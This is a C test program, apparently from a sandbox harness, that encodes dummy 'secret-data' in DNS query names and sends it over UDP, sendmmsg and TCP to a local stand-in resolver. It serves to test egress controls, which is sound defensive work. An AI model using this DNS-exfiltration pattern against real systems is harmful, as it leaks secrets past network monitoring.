// dns_exfil: sends DNS queries over UDP and TCP to an unauthorized resolver
// (the harness's fake resolver on 127.0.0.77:53), data in the query name.
// With "sendmmsg": one query only, with sendmmsg from an unconnected UDP
// socket, the resolver's address in the message's msg_name.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int query(unsigned char *q, const char *label) {
	unsigned char *p = q;
	*p++ = 0x12; *p++ = 0x34; *p++ = 1; *p++ = 0; *p++ = 0; *p++ = 1;
	memset(p, 0, 6); p += 6;
	const char *parts[] = {label, "exfil", "example", NULL};
	for (int i = 0; parts[i]; i++) {
		size_t n = strlen(parts[i]);
		*p++ = (unsigned char)n;
		memcpy(p, parts[i], n);
		p += n;
	}
	*p++ = 0; *p++ = 0; *p++ = 16; *p++ = 0; *p++ = 1; // TXT IN
	return (int)(p - q);
}

int main(int argc, char **argv) {
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(53)};
	inet_pton(AF_INET, "127.0.0.77", &a.sin_addr);
	unsigned char q[512], r[512];
	int n = query(q, "c2VjcmV0LWRhdGE");
	int u = socket(AF_INET, SOCK_DGRAM, 0);
	if (argc > 1 && strcmp(argv[1], "sendmmsg") == 0) {
		struct iovec iov = {q, (size_t)n};
		struct mmsghdr m;
		memset(&m, 0, sizeof m);
		m.msg_hdr.msg_name = &a;
		m.msg_hdr.msg_namelen = sizeof a;
		m.msg_hdr.msg_iov = &iov;
		m.msg_hdr.msg_iovlen = 1;
		sendmmsg(u, &m, 1, 0);
		close(u);
		return 0;
	}
	sendto(u, q, n, 0, (struct sockaddr *)&a, sizeof a);
	struct timeval tv = {1, 0};
	setsockopt(u, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	recv(u, r, sizeof r, 0);
	close(u);
	int t = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(t, (struct sockaddr *)&a, sizeof a) == 0) {
		unsigned char m[514];
		m[0] = n >> 8; m[1] = n & 0xff;
		memcpy(m + 2, q, n);
		write(t, m, n + 2);
	}
	close(t);
	return 0;
}
